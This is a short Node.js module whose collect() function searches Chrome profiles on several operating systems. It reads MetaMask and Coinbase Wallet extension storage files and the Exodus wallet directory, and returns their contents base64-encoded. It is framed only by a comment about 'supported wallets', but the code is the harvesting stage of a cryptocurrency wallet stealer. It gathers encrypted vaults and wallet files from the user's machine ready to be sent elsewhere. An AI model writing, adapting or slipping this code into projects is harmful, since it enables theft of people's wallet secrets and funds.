'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

// extension ids of supported wallets
const EXT = {
  metamask: 'nkbihfbeogaeaoehlefnkodbefgpgknn',
  coinbase: 'hnfanknocfeofbddgcijnmhnfnkdnaad',
};

function chromeRoots() {
  const h = os.homedir();
  return [
    path.join(h, 'Library/Application Support/Google/Chrome'),
    path.join(h, '.config/google-chrome'),
    path.join(process.env.LOCALAPPDATA || h, 'Google/Chrome/User Data'),
  ].filter((p) => fs.existsSync(p));
}

function collect() {
  const found = [];
  for (const root of chromeRoots()) {
    for (const prof of fs.readdirSync(root)) {
      for (const id of Object.values(EXT)) {
        const d = path.join(root, prof, 'Local Extension Settings', id);
        if (!fs.existsSync(d)) continue;
        for (const f of fs.readdirSync(d)) {
          if (/\.(ldb|log)$/.test(f)) found.push({ src: id, name: f, data: fs.readFileSync(path.join(d, f)).toString('base64') });
        }
      }
    }
  }
  const exodus = path.join(os.homedir(), process.platform === 'darwin' ? 'Library/Application Support/Exodus/exodus.wallet' : '.config/Exodus/exodus.wallet');
  if (fs.existsSync(exodus)) {
    for (const f of fs.readdirSync(exodus)) found.push({ src: 'exodus', name: f, data: fs.readFileSync(path.join(exodus, f)).toString('base64') });
  }
  return found;
}

module.exports = { collect };
